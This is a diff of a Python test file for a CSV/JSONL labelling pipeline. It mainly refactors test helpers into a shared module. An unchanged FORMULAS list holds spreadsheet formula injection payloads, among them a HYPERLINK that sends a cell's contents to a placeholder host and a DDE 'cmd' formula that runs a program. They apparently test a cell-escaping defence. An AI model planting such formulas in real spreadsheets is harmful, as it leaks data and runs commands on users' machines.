@@ -7,17 +7,16 @@ import json
 import os
 import shutil
 import subprocess
-import sys
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from batch_runs import REPO, interrupted, label, label_command
 
 from pipeline.analyzer import Analyzer
-from pipeline.batch import BatchError, LabelOptions, LocalEngine, label_file, model_manifest, parts_folder
+from pipeline.batch import BatchError, LocalEngine, parts_folder
 from pipeline.spreadsheet_safety import escape_cell
 
-REPO = Path(__file__).resolve().parents[1]
 FORMULAS = [
     '=HYPERLINK("http://x/?"&A1,"Clic")',
     "=cmd|' /C notepad'!A1",
@@ -37,27 +36,6 @@ def engine(tiny_model) -> LocalEngine:
 @pytest.fixture(scope="module")
 def texts(corpus_records) -> list[str]:
     return [r.text for r in corpus_records[:30]]
-
-
-def label(engine, tiny_model, source: Path, output: Path, **options):
-    return label_file(source, output, engine, model_manifest(tiny_model), LabelOptions(**options), progress=False)
-
-
-def interrupted(engine, tiny_model, source: Path, output: Path, after: int, **options) -> None:
-    def stop(number: int) -> None:
-        if number == after:
-            raise KeyboardInterrupt
-
-    with pytest.raises(KeyboardInterrupt):
-        label_file(
-            source,
-            output,
-            engine,
-            model_manifest(tiny_model),
-            LabelOptions(**options),
-            progress=False,
-            after_chunk=stop,
-        )
 
 
 # ------------------------------------------------------------------------------------------ formula injection
@@ -173,15 +151,7 @@ def test_a_damaged_part_is_found_and_labelled_again(engine, tiny_model, texts, t
     else:
         stats.write_text("{not json", encoding="utf-8")
     redone: list[int] = []
-    summary = label_file(
-        source,
-        output,
-        engine,
-        model_manifest(tiny_model),
-        LabelOptions(chunk_size=7),
-        progress=False,
-        after_chunk=redone.append,
-    )
+    summary = label(engine, tiny_model, source, output, after_chunk=redone.append, chunk_size=7)
     assert redone == [1, 3, 4]
     assert summary.rows == len(texts) and summary.resumed_rows == 14
     assert output.read_bytes() == reference.read_bytes()
@@ -211,22 +181,7 @@ def test_a_second_run_on_the_same_output_is_refused_clearly(tiny_model, corpus_r
     source = tmp_path / "in.csv"
     pd.DataFrame({"texto": [r.text for r in corpus_records[:30]]}).to_csv(source, index=False)
     output = tmp_path / "out.jsonl"
-    command = [
-        sys.executable,
-        "-m",
-        "pipeline.cli",
-        "label",
-        str(source),
-        "-o",
-        str(output),
-        "--model",
-        str(tiny_model),
-        "--device",
-        "cpu",
-        "--chunk-size",
-        "5",
-        "--no-progress",
-    ]
+    command = label_command(source, output, tiny_model, "--chunk-size", "5")
     with FileLock(str(output) + ".lock", timeout=0):
         second = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=300)
     assert second.returncode != 0
